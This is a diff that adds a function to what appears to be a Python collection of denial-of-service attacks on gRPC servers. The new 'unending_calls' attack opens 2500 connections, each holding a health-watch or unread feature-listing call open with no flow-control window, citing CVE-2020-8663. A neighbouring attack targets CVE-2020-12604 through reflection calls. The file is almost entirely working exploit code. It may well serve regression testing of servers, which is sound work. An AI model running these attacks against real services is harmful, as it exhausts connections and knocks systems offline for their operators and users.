@@ -193,6 +193,15 @@ def health_watches(line: Line) -> Script:
     )
 
 
+@attack(on=GRPC, connections=2500)
+def unending_calls(line: Line) -> Script:
+    """CVE-2020-8663: more connections than the listener takes, each with a call that does not end, so that none is idle:
+    Watch of the health service, or a list of which nothing is taken."""
+    asked = call(line, "/grpc.health.v1.Health/Watch" if line.number % 2 == 0 else "ListFeatures")
+    body = message(b"" if line.number % 2 == 0 else WORLD)
+    yield start(NO_WINDOW) + headers(1, asked, end=False) + data(1, body, end=True)
+
+
 @attack(on=GRPC, connections=20, windows=True)
 def unread_reflection(line: Line) -> Script:
     """CVE-2020-12604: calls of the reflection service that ask for all files without end, and open no window."""
